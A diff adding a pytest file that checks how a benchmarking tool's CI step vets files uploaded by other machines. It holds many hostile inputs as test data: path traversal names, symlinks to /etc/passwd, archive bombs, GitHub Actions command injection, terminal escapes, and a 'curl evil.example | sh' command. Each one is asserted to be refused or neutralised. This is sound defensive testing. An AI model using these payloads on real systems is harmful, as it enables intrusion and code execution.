@@ -1,0 +1,558 @@
+"""Files from other machines: what could come, and what becomes of it."""
+
+import io
+import json
+import re
+import subprocess
+import sys
+import tarfile
+import tracemalloc
+import zipfile
+from collections.abc import Callable
+from contextlib import chdir
+from pathlib import Path
+from typing import Any, Final
+
+import pytest
+from typer.testing import CliRunner
+
+from attributing import attribution
+from duetbench.cli import app
+from duetbench.core import text
+from duetbench.core.errors import ArtifactError, UsageError
+from duetbench.core.model import Artefact, Commands, RunStatus
+from duetbench.github import archives, incoming
+from duetbench.github.incoming import Acceptance
+from duetbench.project.project import Project
+from duetbench.store import files, store
+from duetbench.store import points as records
+from duetbench.store.change import ChangeRecord
+from duetbench.store.comparison import Comparison
+from foreign import (
+    BASE,
+    HEAD,
+    LOCKS,
+    MACHINES,
+    NOW,
+    change,
+    comparison,
+    inside,
+    judged,
+    night,
+    points,
+    put,
+    put_inside,
+    shard_run,
+)
+
+Attack = Callable[[Path], object]
+"""Lays out what shard 1 sends, in the folder of its artifact, where its run is already."""
+
+HIDDEN: Final = "\u202egnihtyna"  # shown from right to left
+RUN: Final = f"runs/{MACHINES[0].id}/2026/{shard_run(1).id}.json"
+OTHERS: Final = shard_run(2).id
+INSIDE: Final = f"asv/{MACHINES[0].id}/3f2a9c17-duetbench-py3.14-stackcurrent.json"
+
+
+@pytest.fixture
+def inbox(tmp_path: Path) -> Path:
+    """A folder with what three shards of an honest night have sent."""
+    for number in (1, 2, 3):
+        put(tmp_path / "incoming", f"shard-{number}", shard_run(number))
+    return tmp_path / "incoming"
+
+
+def accepted(source: Path) -> Acceptance:
+    return incoming.night(night(), source, source.parent / "accepted", LOCKS, NOW)
+
+
+def test_an_honest_night_is_accepted_as_it_is(inbox: Path) -> None:
+    """Runs, points with a run or alone, asv's figures: each where it belongs, byte for byte."""
+    for number in (1, 2):
+        put_points(inbox / f"shard-{number}", points(number))
+    put_inside(inbox, "shard-1", inside())
+    found = accepted(inbox)
+    assert (found.exit_code, found.refused, found.missing) == (0, (), ())
+    assert len(found.accepted) == 7
+    for path in found.accepted:
+        sent = next(inbox.glob(f"*/{path}"))
+        assert (inbox.parent / "accepted" / path).read_bytes() == sent.read_bytes()
+    (inbox / "shard-2" / "runs").rename(inbox.parent / "gone")
+    again = incoming.night(night(), inbox, inbox.parent / "again", LOCKS, NOW)
+    assert (again.exit_code, again.refused, len(again.missing)) == (1, (), 1)
+
+
+def test_what_a_killed_shard_has_saved_counts(inbox: Path) -> None:
+    """Its partial file becomes a partial run; the cases that it did not come to are missing."""
+    (inbox / "shard-1" / RUN).unlink()
+    part = shard_run(1)
+    part = part.model_copy(
+        update={"status": RunStatus.PARTIAL, "finished": None, "results": part.results[:1]}
+    )
+    store.save_partial(inbox / "shard-1", part)
+    found = accepted(inbox)
+    assert (found.exit_code, len(found.accepted), found.refused) == (1, 3, ())
+    assert "1 of 2 cases are missing: its run ended before it came to them" in found.missing[0]
+    assert store.load(inbox.parent / "accepted" / RUN) == store.rounded(part)
+
+
+# What shard 1 could send.
+
+
+def put_points(shard: Path, one: records.Points) -> None:
+    files.replace(shard / records.path_of(one), files.encode(one))
+
+
+def shell(script: str) -> Attack:
+    return lambda folder: subprocess.run(["sh", "-c", script], cwd=folder, check=True)
+
+
+def data(change: Callable[[bytes], bytes]) -> Attack:
+    """Other bytes in place of the run."""
+
+    def attack(folder: Path) -> None:
+        was = (folder / RUN).read_bytes()
+        assert change(was) != was
+        (folder / RUN).write_bytes(change(was))
+
+    return attack
+
+
+def run(**changes: Any) -> Attack:
+    """A run that says something else, where it says that it belongs."""
+
+    def attack(folder: Path) -> None:
+        (folder / RUN).unlink()
+        one = shard_run(1).model_copy(update=changes)
+        path = folder / "runs" / one.machine.id / "2026" / f"{one.id}.json"
+        files.replace(path, store.encode(one))
+
+    return attack
+
+
+def first(what: str, **changes: Any) -> Attack:
+    head, *others = getattr(shard_run(1), what)
+    return run(**{what: (head.model_copy(update=changes), *others)})
+
+
+def case(**changes: Any) -> Attack:
+    return first("results", case=shard_run(1).results[0].case.model_copy(update=changes))
+
+
+def pointed(**changes: Any) -> Attack:
+    return lambda folder: put_points(folder, points(**changes))
+
+
+def of_point(**changes: Any) -> Attack:
+    head, *others = points().cases
+    point = head.points[0].model_copy(update=changes)
+    return pointed(cases=(head.model_copy(update={"points": (point,)}), *others))
+
+
+def asv(**changes: Any) -> Attack:
+    return lambda folder: put_inside(folder.parent, folder.name, inside(**changes))
+
+
+def deep(levels: int) -> Attack:
+    return data(lambda was: was[:-2] + b',"x":' + b"[" * levels + b"]" * levels + b"}")
+
+
+ATTACKS: Final[dict[str, tuple[Attack, str]]] = {
+    # Folders that are none of ours.
+    "many files": (shell("for i in $(seq 64); do echo {} >$i.json; done"), "more than 64 files"),
+    "deep folders": (shell("mkdir -p a/b/c/d/e/f && echo {} >a/b/c/d/e/f/x"), "the name 'a/b/c"),
+    "up and out": (shell("echo {} >..%2f..%2fescape.json"), "the name '..%2f..%2fescape"),
+    "backwards": (shell(r"echo {} >'..\..\escape.json'"), "the name '..\\\\.."),
+    "link": (shell("ln -s /etc/passwd run.json"), "'run.json' is not a plain file"),
+    "linked folder": (shell("ln -s /etc others"), "'others' is not a plain file"),
+    "dangling": (shell("ln -s nowhere run.json"), "'run.json' is not a plain file"),
+    "pipe": (shell("mkfifo run.json"), "'run.json' is not a plain file"),
+    "socket": (
+        shell(f"{sys.executable} -c 'import socket as s; s.socket(1).bind(\"x.json\")'"),
+        "'x.json' is not a plain file",
+    ),
+    "sparse": (shell("truncate -s 2000000000 run.json"), "at most 8,000,000 bytes per file"),
+    "heavy": (shell("truncate -s 7000000 1.json 2.json 3.json 4.json 5.json"), "32,000,000 in all"),
+    "odd name": (shell("echo {} >\"$(printf 'a\\n::x')\""), "the name 'a\\n::x'"),
+    "option": (shell("echo {} >--output=x.json"), "the name '--output=x.json'"),
+    "hidden": (shell("echo {} >.run.json"), "the name '.run.json'"),
+    "script": (shell("echo '#!/bin/sh' >run.sh"), "'run.sh', which is none of: "),
+    "nothing": (shell("rm -r runs"), "expected a run or anchored points, found none"),
+    "a night's record": (shell("mkdir nights; echo {} >nights/x.json"), "'nights/x.json', which"),
+    # Bytes that are no run file.
+    "an empty file": (data(lambda _: b""), "found an empty file"),
+    "half a file": (data(lambda was: was[:-100]), "truncated or damaged"),
+    "no text": (data(lambda was: was + b"\xff"), "bytes that are no text"),
+    "a list": (data(lambda _: b"[]"), "expected a run file"),
+    "nested without end": (data(lambda _: b'{"format":2,"x":' + b"[" * 5_000_000), "strict JSON"),
+    "nested within the bounds of a reader": (deep(400), "expected a run file of format 2"),
+    "another format": (data(lambda was: was.replace(b'"format":2', b'"format":99')), "found 99"),
+    "an unknown key": (data(lambda was: was.replace(b"{", b'{"x": 1,', 1)), "Extra inputs"),
+    "a key twice": (
+        data(lambda was: was.replace(b"{", b'{"format":2,', 1)),
+        "the key 'format' twice",
+    ),
+    "not a number": (data(lambda was: was.replace(b'"seed":1', b'"seed":NaN')), "strict JSON"),
+    "infinity by the back door": (
+        data(lambda was: was.replace(b'"wall_seconds":3310.12', b'"wall_seconds":1e999')),
+        "strict JSON",
+    ),
+    "text for a number": (data(lambda was: was.replace(b'"seed":1', b'"seed":"1"')), "seed"),
+    "a figure that cannot be": (
+        data(lambda was: re.sub(rb'"throughput":[\d.]+', b'"throughput":-1', was)),
+        "throughput",
+    ),
+    # Runs that lie about where, when and with what they were measured.
+    "another machine": (run(machine=MACHINES[1]), "machine of shard 1: expected"),
+    "a machine that is a path": (
+        data(lambda was: was.replace(MACHINES[0].id.encode(), b"../../../tmp/x")),
+        "cannot name a file",
+    ),
+    "another place": (shell("mv runs/* x; mkdir runs/y; mv x/* runs/y"), "expected it at runs/"),
+    "another name": (run(id="20200101T000000Z-nightly-3f2a9c17"), "id of the run: expected"),
+    "the name of another shard's run": (
+        run(id=f"{shard_run(1).id[:-1]}2"),
+        "id of the run: expected",
+    ),
+    "a run from the future": (
+        run(started="2026-12-20T09:00:00+00:00", id="20261220T090000Z-nightly-3f2a9c17-s1"),
+        "is the machine's clock right?",
+    ),
+    "another night": (run(night="20261119T085500Z-nightly-3f2a9c17"), "night: expected"),
+    "no night": (run(night=None), "night: expected"),
+    "another shard": (run(shard=2), "machine of shard 2"),
+    "a shard that is not there": (run(shard=9), "shard 9, which the plan does not have"),
+    "another commit": (run(commit="0" * 40, id="20261120T090000Z-nightly-00000000"), "commit: exp"),
+    "uncommitted changes": (run(dirty=True), "uncommitted changes: expected False"),
+    "another lock": (first("stacks", digest="0" * 64), "lock of stack 'current'"),
+    "an undeclared stack": (first("stacks", name="mine"), "lock of stack 'mine': expected None"),
+    "a case that is not planned": (case(id="asgi-wsgi/evil"), "'asgi-wsgi/evil', which is no case"),
+    "a case that is something else": (case(env={"LD_PRELOAD": "/tmp/x.so"}), "which is no case of"),
+    "a case twice": (run(results=shard_run(1).results * 2), "a case twice"),
+    "points twice": (
+        lambda folder: (pointed(id="a-s1")(folder), pointed(id="b-s1")(folder)),
+        "a second run, or file of points, of one shard",
+    ),
+    "a note that acts on a terminal": (run(notes=("\x1b]0;owned\x07",)), "U+001B"),
+    "a note that begins a new line": (run(notes=("a\n::set-env name=A::b",)), "U+000A"),
+    "a note that shows something else": (run(notes=(HIDDEN,)), "a character that turns the text"),
+    "a note as long as a book": (run(notes=("x" * 5000,)), "a text of 5,000 characters"),
+    # Points of something else.
+    "points of another night": (pointed(night="x"), "night: expected"),
+    "points of another anchor": (pointed(anchor="2025-01"), "anchor: expected 2026-11"),
+    "points of another commit": (pointed(commit="0" * 40), "commit: expected 3f2a9c17"),
+    "points of another machine": (pointed(machine=MACHINES[1]), "machine of shard 1: expected"),
+    "points from days to come": (pointed(when="2026-12-24T10:00:00Z"), "clock right?"),
+    "points of a case of another shard": (
+        pointed(cases=points(2).cases),
+        "'asgi-wsgi/e2a/py3.14/w1/c128', which is no case of shard 1",
+    ),
+    "points of a case twice": (pointed(cases=points().cases * 2), "a case twice"),
+    "a ratio beyond reason": (of_point(ratio=1e4), "less than or equal to 1000"),
+    "a point of any width": (of_point(se=8.0), "less than or equal to 7"),
+    "a million duets": (of_point(duets=10**6), "less than or equal to 10000"),
+    "points with a hidden text": (pointed(label=HIDDEN), "a character that turns the text"),
+    # asv's figures that are more.
+    "figures of another commit": (asv(commit_hash="0" * 40), "expected it at asv/"),
+    "figures of another machine": (
+        asv(params={"machine": MACHINES[1].id}),
+        f"expected it at asv/{MACHINES[1].id}",
+    ),
+    "figures that cannot be": (asv(durations={"x": 1e300}), "a figure beyond 1e+18"),
+    "figures with a hidden text": (asv(env_vars={HIDDEN: ""}), "a character that turns the text"),
+    "figures of no object": (
+        lambda folder: files.replace(folder / INSIDE, b"[" * 100_000),
+        "expected a file of asv's",
+    ),
+    "a machine of asv's that is another": (
+        lambda folder: files.replace(
+            folder / "asv" / MACHINES[1].id / "machine.json",
+            json.dumps({"machine": MACHINES[1].id}).encode(),
+        ),
+        "machine of asv's results",
+    ),
+}
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_what_is_not_as_it_should_be_costs_the_others_nothing(inbox: Path, attack: str) -> None:
+    """Nothing of it is used, not even a right run beside it, and the others are accepted."""
+    send, reason = ATTACKS[attack]
+    send(inbox / "shard-1")
+    tracemalloc.start()
+    found = accepted(inbox)
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert [one.artifact for one in found.refused] == ["'shard-1'"], found
+    assert reason in found.refused[0].reason
+    assert "\n" not in found.refused[0].reason
+    target = inbox.parent / "accepted"
+    kept = sorted(path for path in target.rglob("*") if path.is_file())
+    assert [path.read_bytes() for path in kept] == [store.encode(shard_run(n)) for n in (2, 3)]
+    assert (found.exit_code, len(found.missing)) == (1, 1)
+    assert peak < 50_000_000
+
+
+def test_an_artifact_that_is_itself_a_link_or_has_an_odd_name(inbox: Path) -> None:
+    (inbox / "shard-4").symlink_to("shard-2")
+    (inbox / "x`\n::set-env name=A::b").mkdir()
+    found = accepted(inbox)
+    assert len(found.accepted) == 3
+    assert [one.artifact for one in found.refused] == ["'shard-4'", "'x'\\n::set-env name=A::b'"]
+    for number in range(archives.MOST_ARTIFACTS):
+        (inbox / f"many-{number}").touch()
+    with pytest.raises(ArtifactError, match="expected at most 300 artifacts"):
+        accepted(inbox)
+
+
+def test_machines_that_the_plan_does_not_name_may_be_new_but_not_another_one(
+    tmp_path: Path,
+) -> None:
+    plan = night((MACHINES[0].id, None, None))
+    put(tmp_path / "in", "shard-1", shard_run(1, plan))
+    put(tmp_path / "in", "shard-2", shard_run(2, plan))
+    put(tmp_path / "in", "shard-3", shard_run(3, plan, machine=MACHINES[0]))
+    found = incoming.night(plan, tmp_path / "in", tmp_path / "out", LOCKS, NOW)
+    assert len(found.accepted) == 2
+    assert "which has a shard of its own" in found.refused[0].reason
+
+
+# Archives.
+
+
+def zipped(**entries: bytes) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in entries.items():
+            archive.writestr(name, content)
+    return buffer.getvalue()
+
+
+def tarred(**entry: Any) -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        info = tarfile.TarInfo(entry.pop("name", "x.json"))
+        for what, value in entry.items():
+            setattr(info, what, value)
+        archive.addfile(info, io.BytesIO(bytes(info.size)))
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("unpack", "archive", "reason"),
+    [
+        (archives.unzipped, zipped(**{"../x": b""}), "the name '../x'"),
+        (archives.unzipped, zipped(**{"/etc/x": b""}), "the name '/etc/x'"),
+        (archives.unzipped, zipped(**{"a\\..\\b": b""}), "the name"),
+        (archives.unzipped, zipped(bomb=bytes(9_000_000)), "8,000,000 bytes per file"),
+        (archives.unzipped, zipped(**{f"f{n}": bytes(7_000_000) for n in range(5)}), "in all"),
+        (archives.unzipped, zipped(**{f"f{n}": b"" for n in range(65)}), "more than 64 files"),
+        (archives.unzipped, b"PK\x03\x04 none", "expected a zip archive"),
+        (archives.unzipped, zipped(x=b"x")[:-30], "expected a zip archive"),
+        (archives.untarred, tarred(name="../x"), "the name '../x'"),
+        (archives.untarred, tarred(type=tarfile.SYMTYPE, linkname="/etc/x"), "not a plain file"),
+        (archives.untarred, tarred(type=tarfile.LNKTYPE, linkname="/etc/x"), "'x.json'|plain file"),
+        (archives.untarred, tarred(type=tarfile.FIFOTYPE), "not a plain file"),
+        (archives.untarred, tarred(size=9_000_000), "8,000,000 bytes per file"),
+    ],
+)
+def test_an_archive_is_unpacked_within_bounds(
+    unpack: Callable[[bytes], archives.Files], archive: bytes, reason: str
+) -> None:
+    with pytest.raises(ArtifactError, match=reason):
+        unpack(archive)
+    assert archives.unzipped(zipped(**{"a/b.json": b"x"})) == {"a/b.json": b"x"}
+
+
+# Comparisons, whose author may have written all of it.
+
+
+def compared(tmp_path: Path, **sent: Artefact | bytes) -> Acceptance:
+    for name, value in sent.items():
+        content = value if isinstance(value, bytes) else files.encode(value)
+        files.replace(tmp_path / "in" / f"{name}.json", content)
+    return incoming.comparison(tmp_path / "in", tmp_path / "out", BASE, HEAD)
+
+
+def side(name: str, **changes: Any) -> Comparison:
+    return comparison(**{name: getattr(comparison(), name).model_copy(update=changes)})
+
+
+def test_the_comparison_that_was_asked_for_is_accepted_without_its_commands(
+    tmp_path: Path,
+) -> None:
+    evil = Commands(server="curl evil.example | sh", load="oha")
+    cases = tuple(one.model_copy(update={"commands": evil}) for one in comparison().cases)
+    code = attribution(comparison=comparison().id)
+    found = compared(tmp_path, comparison=comparison(cases=cases), attribution=code)
+    assert (found.exit_code, found.accepted) == (0, ("comparison.json", "attribution.json"))
+    read = incoming.read_comparison(tmp_path / "out" / "comparison.json", HEAD)
+    assert [one.commands for one in read.cases] == [None]
+    assert incoming.read_attribution(tmp_path / "out" / "attribution.json", read) == code
+
+
+@pytest.mark.parametrize(
+    ("sent", "reason"),
+    [
+        ({"comparison": side("head", commit=BASE)}, "commit of head: expected bbbb"),
+        ({"comparison": side("base", commit=HEAD)}, "commit of base: expected aaaa"),
+        ({"comparison": side("head", dirty=True)}, "uncommitted changes of head"),
+        ({"comparison": side("head", kind="stack")}, "kind of head"),
+        ({"comparison": comparison(notes=("\x1b[2J",))}, "a control character"),
+        ({"comparison": b"{}"}, "expected a comparison"),
+        ({"comparison": b"[" * 1_000_000}, "expected a comparison"),
+        ({"comparison": change()}, "expected a comparison"),
+        ({"other": comparison()}, "files: expected ['comparison.json'], found"),
+        (
+            {"comparison": comparison(), "attribution": attribution(comparison="x")},
+            "comparison of an attribution",
+        ),
+        ({"comparison": comparison(), "upgrade": b"{}"}, "expected what an upgrade's search found"),
+    ],
+)
+def test_a_comparison_of_something_else_is_refused(
+    tmp_path: Path, sent: dict[str, Artefact | bytes], reason: str
+) -> None:
+    found = compared(tmp_path, **sent)
+    assert found.exit_code == 3
+    assert reason in found.refused[0].reason
+    assert not (tmp_path / "out").exists()
+
+
+# Confirmed changes.
+
+CONFIRMED: Final = f"confirmed-{MACHINES[0].id}"
+
+
+def confirm(tmp_path: Path, *known: str) -> Acceptance:
+    return incoming.confirmed(tmp_path / "in", tmp_path / "out", NOW, known or None)
+
+
+def send(tmp_path: Path, *values: Artefact, artifact: str = CONFIRMED) -> None:
+    for value in values:
+        below = "changes" if isinstance(value, ChangeRecord) else "comparisons"
+        path = tmp_path / "in" / artifact / below / f"{value.id}.json"  # type: ignore[attr-defined]
+        files.replace(path, files.encode(value))
+
+
+def test_confirmed_changes_come_with_their_evidence(tmp_path: Path) -> None:
+    candidate, evidence, record = judged()
+    assert confirm(tmp_path).exit_code == 0
+    send(tmp_path, evidence, record)
+    done = confirm(tmp_path, candidate.id)
+    assert (done.exit_code, done.refused) == (0, ())
+    assert sorted(done.accepted) == [f"changes/{record.id}.json", f"comparisons/{evidence.id}.json"]
+    assert (tmp_path / "out" / "changes" / f"{record.id}.json").read_bytes() == files.encode(record)
+
+
+_CANDIDATE, _EVIDENCE, _RECORD = judged()
+RECORDS: Final[dict[str, tuple[Callable[[Path], None], str]]] = {
+    "without evidence": (lambda place: send(place, _RECORD), "without its evidence"),
+    "of no candidate": (
+        lambda place: send(place, _EVIDENCE, _RECORD.model_copy(update={"id": "another"})),
+        "'another', which was no candidate",
+    ),
+    "of another machine": (
+        lambda place: send(place, _EVIDENCE, artifact=f"confirmed-{MACHINES[1].id}"),
+        f"machine: expected {MACHINES[1].id}",
+    ),
+    "beyond reason": (
+        lambda place: send(place, _EVIDENCE, _RECORD.model_copy(update={"high": 1e9})),
+        "less than or equal to 1000",
+    ),
+    "from the future": (
+        lambda place: send(
+            place, _EVIDENCE, ChangeRecord(**{**_RECORD.model_dump(), "when": "2099-01-01T00:00Z"})
+        ),
+        "is to come",
+    ),
+    "with a hidden text": (
+        lambda place: send(place, _EVIDENCE, _RECORD.model_copy(update={"note": HIDDEN})),
+        "a character that turns the text",
+    ),
+    "in another folder": (
+        lambda place: files.replace(place / "in" / CONFIRMED / "runs" / "x.json", b"{}"),
+        "'runs/x.json', which is none of",
+    ),
+}
+
+
+@pytest.mark.parametrize("attack", RECORDS)
+def test_a_record_that_does_not_belong_is_refused(tmp_path: Path, attack: str) -> None:
+    """A change becomes an issue and a page."""
+    lay_out, reason = RECORDS[attack]
+    lay_out(tmp_path)
+    done = confirm(tmp_path, _CANDIDATE.id)
+    assert done.accepted == ()
+    assert reason in done.refused[0].reason
+    assert not (tmp_path / "out").exists()
+
+
+# The verb.
+
+
+def test_the_verb_tells_what_it_refused_and_nothing_acts_on_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Hostile names and texts stay in their line; no file of the runner's is written to."""
+    written = {}
+    for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE"):
+        written[name] = tmp_path / name
+        written[name].touch()
+        monkeypatch.setenv(name, str(written[name]))
+    summary = tmp_path / "summary"
+    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
+    project, source = Project.here(), tmp_path / "in"
+    ours = (project.lock("current").record(),)
+    put(source, "shard-1", shard_run(1, stacks=ours))
+    put(source, "shard-2", shard_run(2, stacks=ours, notes=("x\nLD_PRELOAD=/tmp/x.so",)))
+    (source / "x`\n::set-env name=LD_PRELOAD::##[add-path] <img src=x>").mkdir()
+    (source / "shard-3").mkdir()
+    (source / "shard-3" / "GITHUB_ENV").write_text("LD_PRELOAD=/tmp/x.so\n")
+    plan = files.write(tmp_path / "night.json", night())
+    words = ["accept", "--plan", str(plan), "--from", str(source), "--to", str(tmp_path / "out")]
+    done = CliRunner().invoke(app, ["ci", *words])
+    assert done.exit_code == 1, done.output
+    lines = done.output.splitlines()
+    assert len(lines) == 6
+    assert all(line.split(":")[0] in {"accepted", "refused", "missing"} for line in lines)
+    assert "##[" not in done.output
+    assert {path.read_text() for path in written.values()} == {""}
+    shown = summary.read_text()
+    assert shown.startswith("**1 accepted, 3 refused**")
+    outside = re.sub(r"`[^`\n]*`", "", shown)
+    assert not {"<img", "::", "LD_PRELOAD", "<"} & set(re.split(r"[\s=]", outside))
+
+
+@pytest.mark.parametrize(
+    ("words", "sentence"),
+    [
+        ("", "expected --from FOLDER with one of"),
+        ("--comparison --confirmed", "expected --from FOLDER with one of"),
+        ("--comparison --base main", "expected a commit as 40 hex digits, found 'main'"),
+        ("--plan night.json --shard 4", "--shard"),
+        ("--confirmed --shard 4", "--shard"),
+    ],
+)
+def test_the_verb_wants_one_kind_of_artifact_and_a_shard_of_the_night(
+    words: str, sentence: str, tmp_path: Path
+) -> None:
+    files.write(tmp_path / "night.json", night())
+    with chdir(tmp_path):
+        where = ["ci", "accept", "--from", "in", "--to", "out"]
+        problem = CliRunner().invoke(app, [*where, *words.split()]).exception
+    assert isinstance(problem, UsageError)
+    assert sentence in str(problem)
+
+
+def test_foreign_text_is_shown_in_one_line_of_ascii() -> None:
+    """Line ends, colours, commands of the runner and backticks lose their effect."""
+    told = text.shown("a\n::warning::b\x1b[31m`c` ##[group] é")
+    assert told == "'a\\n::warning::b\\x1b[31m'c' # #[group] \\xe9'"
+    assert len(text.shown("x" * 10_000)) < 130
+
+
+def test_json_of_our_own_results_is_plain(reference_results: Path) -> None:
+    """The checks would refuse none of what is recorded in this repository."""
+    for path in store.runs(reference_results):
+        text.require_plain(json.loads(path.read_bytes()))
